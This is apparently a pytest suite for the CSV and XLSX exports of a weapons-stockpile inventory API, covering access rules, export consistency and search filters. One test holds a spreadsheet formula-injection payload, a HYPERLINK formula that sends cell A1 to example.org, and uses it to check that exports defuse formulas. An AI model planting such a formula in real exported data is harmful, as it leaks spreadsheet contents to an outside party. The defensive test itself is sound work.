"""Lists leave as files: all rows of what was asked for, of what one may read, harmless in any spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import openpyxl
import pytest
from httpx import Response

from api import exports
from stockpile.acts.declare import DECLARE
from stockpile.acts.open_books import OPEN
from stockpile.acts.receive import RECEIVE
from stockpile.documents import now
from stockpile.reports import export
from tests.api_world import Web, fresh, problem, served
from tests.world import HELMET, RIFLES, scans

web = pytest.fixture(served)

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def read_csv(answer: Response) -> list[dict[str, str]]:
    """The rows of a CSV file by its headings."""
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert int(answer.headers["content-length"]) == len(answer.content)
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def read_xlsx(answer: Response) -> list[dict[str, Any]]:
    """The rows of an XLSX file by its headings."""
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == XLSX
    headings, *rows = openpyxl.load_workbook(io.BytesIO(answer.content)).worksheets[0].iter_rows(values_only=True)
    return [dict(zip([str(heading) for heading in headings], row, strict=True)) for row in rows]


def declared(web: Web, donor: str, *serials: str) -> None:
    lines = [{"model": "AKM", "serial_number": serial} for serial in serials]
    web.country.do("registrar", DECLARE, site="TAJI", donor=donor, reference=f"{donor}-1", lines=lines)


def test_a_list_of_documents_as_csv_and_as_xlsx(web: Web) -> None:
    """Three issues: both files hold all of them whatever the page, under the same names as in JSON, and say what they are."""
    for serial in RIFLES[:3]:
        web.posted("clerk", "/v1/issues", {"receiver": "A-1001", "store": "Main store", "lines": scans(serial)})
    shown = web.get("clerk", "/v1/documents", act="issue").json()["rows"]
    answer = web.get("clerk", "/v1/documents", act="issue", format="csv", limit=1)
    rows = read_csv(answer)
    assert [row["number"] for row in rows] == [row["number"] for row in shown]
    assert set(rows[0]) == set(shown[0])
    assert (rows[0]["fact"], rows[0]["lines"], rows[0]["posted_by"]) == ("no", "1", "Sergeant Talib Clerk (T-1)")
    name = re.fullmatch('attachment; filename="(.+)"', answer.headers["content-disposition"])
    assert name is not None
    assert re.fullmatch(r"documents-TAJI-\d{4}-\d\d-\d\d-\d{4}Z\.csv", name[1])
    sheet = read_xlsx(web.get("clerk", "/v1/documents", act="issue", format="xlsx"))
    assert [row["number"] for row in sheet] == [row["number"] for row in shown]
    assert sheet[0]["lines"] == 1
    assert [row["happened_at"].year for row in sheet] == [now().year] * 3


EVERY_LIST = (
    "/v1/documents", "/v1/discrepancies", "/v1/weapons", "/v1/balance", "/v1/drafts", "/v1/jobs", "/v1/registers",
    "/v1/sites", "/v1/accounts", "/v1/parties", "/v1/signature-cards", "/v1/models", "/v1/aliases", "/v1/assignments",
    "/v1/weapon-cards", "/v1/destruction-orders",
)  # fmt: skip


ORDER = {"reason": "worn out", "authority": "order 118", "due_on": "2099-12-31", "method": "cutting"}


@pytest.mark.parametrize("path", EVERY_LIST)
def test_every_list_leaves_in_both_forms(web: Web, path: str) -> None:
    """As many rows as in JSON, with a heading even where there is none."""
    web.posted(
        "clerk", "/v1/receipts", {"store": "Main store", "lines": [{"model": "AKM", "serial_number": RIFLES[0]}]}
    )
    opening = {"name": "Old", "store": "Main store", "lines": [{"model": "AKM", "serial_number": "OLD 1"}]}
    web.country.ask("registrar", OPEN, site="TAJI", **opening)
    web.posted("commander", "/v1/assignments", {"lines": [{"scan": RIFLES[1], "person": "A-1001"}]})
    web.posted("clerk", "/v1/draws", {"store": "Main store", "lines": [{"scan": RIFLES[1]}]})
    web.approved("commander", web.drafted("clerk", "/v1/destruction-orders", {**ORDER, "lines": scans(RIFLES[2])}))
    shown = web.get("commander", path, limit=500).json()
    count = len(shown["lines"] if path == "/v1/balance" else shown["rows"])
    assert count or path in ("/v1/jobs", "/v1/registers", "/v1/discrepancies")
    assert len(read_csv(web.get("commander", path, format="csv"))) == count
    assert len(read_xlsx(web.get("commander", path, format="xlsx"))) == count
    problem(web.get("commander", path, format="pdf"), 422, "invalid")


def test_what_only_some_may_list_leaves_only_for_them(web: Web) -> None:
    """Tokens for a registrar, without their text; a unit's members for the desk that serves it."""
    tokens = read_csv(web.get("registrar", "/v1/tokens", format="csv"))
    assert len(tokens) == len(web.get("registrar", "/v1/tokens", limit=500).json()["rows"])
    assert "token" not in tokens[0]
    problem(web.get("commander", "/v1/tokens", format="csv"), 403, "not-allowed")
    (unit,) = web.get("commander", "/v1/parties", kind="unit", text="1COY").json()["rows"]
    members = read_csv(web.get("commander", f"/v1/units/{unit['party_id']}/members", format="csv"))
    assert "A-1001" in [member["service_number"] for member in members]


def test_the_lines_of_a_document_and_the_history_of_a_weapon(web: Web) -> None:
    """One voucher of ten rifles; one rifle that came in and went out, with who signed."""
    posted = web.posted("clerk", "/v1/issues", {"receiver": "A-1001", "store": "Main store", "lines": scans(*RIFLES)})
    answer = web.get("clerk", f"/v1/documents/{posted['document_id']}/lines", format="csv")
    assert [row["serial_number"] for row in read_csv(answer)] == list(RIFLES)
    assert f"lines-{posted['number'].replace('/', '-')}-TAJI-" in answer.headers["content-disposition"]
    item = web.country.item(RIFLES[0]).item_id
    received, issued = read_xlsx(web.get("clerk", f"/v1/weapons/{item}/history", format="xlsx"))
    assert (received["act"], issued["act"]) == ("receive", "issue")
    assert (issued["origin_account"], issued["to_account"]) == ("Main store", "Private Petrov (A-1001)")
    assert "posted_by: Sergeant Talib Clerk (T-1)" in issued["signatures"]
    problem(web.get("clerk", f"/v1/documents/{fresh()}/lines", format="csv"), 404, "not-found")
    problem(web.get("clerk", f"/v1/documents/{fresh()}/lines"), 404, "not-found")


def test_what_somebody_typed_does_not_run_in_a_spreadsheet(web: Web) -> None:
    """A remark that is a formula, and a serial number that begins like one: text in both forms, and the text itself in XLSX."""
    attack = '=HYPERLINK("http://example.org/?"&A1,"x")'
    web.posted(
        "clerk", "/v1/receipts",
        {"store": "Main store", "remarks": attack, "lines": [{"model": "AKM", "serial_number": "-1+2"}]},
    )  # fmt: skip
    body = web.get("clerk", "/v1/weapons", format="csv").content.decode("utf-8-sig")
    assert "'-1+2" in [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    opening = {
        "site": "TAJI",
        "name": attack,
        "store": "Main store",
        "lines": [{"model": "AKM", "serial_number": "O 1"}],
    }
    web.country.ask("registrar", OPEN, **opening)
    for path in ("/v1/weapons", "/v1/drafts", "/v1/documents"):
        for row in csv.reader(io.StringIO(web.get("commander", path, format="csv").content.decode("utf-8-sig"))):
            assert not [cell for cell in row if cell[:1] in "=+-@\t\r" and cell], row
        book = openpyxl.load_workbook(io.BytesIO(web.get("commander", path, format="xlsx").content))
        assert {cell.data_type for row in book.worksheets[0].iter_rows() for cell in row} <= {"s", "n", "d", "b"}
    assert "-1+2" in [row["serial_number"] for row in read_xlsx(web.get("clerk", "/v1/weapons", format="xlsx"))]


def test_an_export_holds_what_its_asker_may_read(web: Web) -> None:
    """A donor's files hold its own weapons, discrepancies and documents, and no name; another site's clerk has nothing."""
    declared(web, "USA", "UA 1", RIFLES[0])
    declared(web, "FRA", "FR 1")
    own = read_csv(web.get("USA", "/v1/weapons", format="csv"))
    assert {row["serial_number"] for row in own} == {"UA 1", RIFLES[0]}
    assert {(row["donor"], row["account"], row["account_class"]) for row in own} == {("USA", "", "supply")}
    assert {row["serial_number"] for row in read_csv(web.get("FRA", "/v1/weapons", format="csv"))} == {"FR 1"}
    arrived = [{"model": "AKM", "serial_number": "UA 1"}]
    web.country.do("clerk", RECEIVE, store="Main store", donor="USA", consignment="USA-1", complete=True, lines=arrived)
    acts = [row["act"] for row in read_csv(web.get("USA", "/v1/documents", format="csv"))]
    assert acts == ["receive", "declare"]
    (short,) = read_csv(web.get("USA", "/v1/discrepancies", format="csv"))
    assert (short["kind"], short["owner"], short["document_number"]) == ("shortage", "", "")
    assert read_csv(web.get("FRA", "/v1/discrepancies", format="csv")) == []
    assert read_csv(web.get("erbil clerk", "/v1/weapons", format="csv")) == []
    assert [row["came_in"] for row in read_csv(web.get("USA", "/v1/balance", format="csv"))] == ["2"]
    for path in ("/v1/drafts", "/v1/registers"):
        problem(web.get("USA", path, format="csv"), 403, "not-allowed")
    problem(web.client.get("/v1/weapons", params={"format": "csv"}), 401, "not-signed-in")


def test_an_export_is_of_one_moment_however_long_it_takes(web: Web, monkeypatch: pytest.MonkeyPatch) -> None:
    """While a list is written in pages of two, somebody goes on issuing: the file has each rifle once, as it was at first."""
    monkeypatch.setattr(export, "LONGEST_PAGE", 2)
    monkeypatch.setattr("stockpile.reports.holdings.BATCH", 2)
    write, waiting = exports.write_csv, list(RIFLES[5:])

    def write_slowly(target: Any, headings: Any, rows: Any) -> None:
        def slowly() -> Any:
            for row in rows:
                if waiting:
                    lines = scans(waiting.pop())
                    web.posted("clerk", "/v1/issues", {"receiver": "A-1001", "store": "Main store", "lines": lines})
                yield row

        write(target, headings, slowly())

    monkeypatch.setattr(exports, "write_csv", write_slowly)
    rows = read_csv(web.get("clerk", "/v1/weapons", model="AKM", format="csv"))
    assert [row["serial_number"] for row in rows] == list(RIFLES)
    assert {(row["account_class"], row["account"]) for row in rows} == {("store", "Main store")}
    waiting = list(RIFLES[:5])
    assert len(read_csv(web.get("clerk", "/v1/documents", format="csv"))) == 6
    assert waiting == []


def test_a_file_that_cannot_be_finished_is_a_problem_not_half_a_file(web: Web, monkeypatch: pytest.MonkeyPatch) -> None:
    """The disk is full on the second row."""

    def broken(target: Any, headings: Any, rows: Any) -> None:
        target.write(b"half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(exports, "write_csv", broken)
    problem(web.get("clerk", "/v1/documents", format="csv"), 500, "unexpected")


def test_the_rows_behind_a_number_of_the_balance(web: Web) -> None:
    """Two rifles with Petrov, eight in the store: each number of the balance is the sum of the rows its filters give, now and
    as of before.
    """
    before = now().isoformat()
    web.posted("clerk", "/v1/issues", {"receiver": "A-1001", "store": "Main store", "lines": scans(*RIFLES[:2])})
    for moment, person, store in (({}, 2, 8), ({"as_of": before}, 0, 10), ({"recorded_as_of": before}, 0, 10)):
        for who in ("auditor", "clerk"):
            (line,) = web.get(who, "/v1/balance", by="model", model="AKM", **moment).json()["lines"]
            assert (line["person"], line["store"]) == (person, store)
            for account_class in ("person", "store"):
                rows = web.get(who, "/v1/weapons", model="AKM", **{"class": account_class}, **moment).json()
                assert (rows["quantity"], rows["line_count"]) == (line[account_class],) * 2
                assert len(rows["rows"]) == line[account_class]
                exported = read_csv(
                    web.get(who, "/v1/weapons", model="AKM", format="csv", **{"class": account_class}, **moment)
                )
                assert len(exported) == line[account_class]


def test_weapons_are_found_by_what_people_ask_for(web: Web) -> None:
    """By site, account, class, donor, model, text, and by what no count has confirmed."""
    declared(web, "USA", "UA 77")
    opening = {"name": "Old", "store": "Quarantine", "lines": [{"model": "AKM", "serial_number": "OLD 1"}]}
    web.country.do_with_approval("registrar", "commander", OPEN, site="TAJI", **opening)

    def serials(**query: Any) -> list[str]:
        answer = web.get("auditor", "/v1/weapons", **query)
        assert answer.status_code == 200, answer.text
        return [row["serial_number"] for row in answer.json()["rows"]]

    assert serials(donor="USA") == ["UA 77"]
    assert serials(unverified=True) == ["OLD 1"]
    assert "OLD 1" not in serials(unverified=False)
    assert serials(text="*4499?3") == [RIFLES[3]]
    assert serials(text="helm", model=HELMET) == [None]
    assert serials(site="ERBIL") == []
    assert serials(model="AKM", **{"class": ["supply", "transit"]}) == ["UA 77"]
    (old,) = web.get("auditor", "/v1/weapons", unverified=True).json()["rows"]
    assert serials(account=old["account_id"]) == ["OLD 1"]
    assert (old["account"], old["donor"]) == ("Quarantine", "OWN")
    assert old["document_number"].startswith("TAJI/")
    problem(web.get("clerk", "/v1/weapons", site="ERBIL"), 403, "not-allowed")
    problem(web.get("auditor", "/v1/weapons", donor="NOBODY"), 404, "not-found")
    problem(web.get("auditor", "/v1/weapons", model="Blunderbuss"), 404, "not-found")
    problem(web.get("auditor", "/v1/weapons", unverified=True, as_of=now().isoformat()), 422, "invalid")


def test_documents_are_found_by_what_people_ask_for(web: Web) -> None:
    """By site, book, poster, a part of the number or of what is written in it, and by how they came."""
    first = web.posted(
        "clerk", "/v1/issues",
        {"receiver": "A-1001", "store": "Main store", "remarks": "Night exercise", "lines": scans(RIFLES[0])},
    )  # fmt: skip
    second = web.posted(
        "second clerk", "/v1/issues", {"receiver": "A-1002", "store": "Main store", "lines": scans(RIFLES[1])}
    )

    def numbers(who: str = "auditor", **query: Any) -> list[str]:
        answer = web.get(who, "/v1/documents", **query)
        assert answer.status_code == 200, answer.text
        return [row["number"] for row in answer.json()["rows"]]

    assert numbers(book="c") == [second["number"]]
    assert numbers(poster="T-2") == [second["number"]]
    assert numbers(text="night EXERCISE") == [first["number"]]
    assert numbers(text=second["number"][:-1].lower(), act="issue") == [second["number"]]
    assert numbers(text="100%") == []
    assert numbers(fact=True) == []
    assert first["number"] in numbers(fact=False, site="TAJI")
    assert numbers(site="ERBIL") == []
    assert numbers("erbil clerk") == []
    problem(web.get("USA", "/v1/documents", poster="T-1"), 403, "not-allowed")
    problem(web.get("clerk", "/v1/documents", site="ERBIL"), 403, "not-allowed")
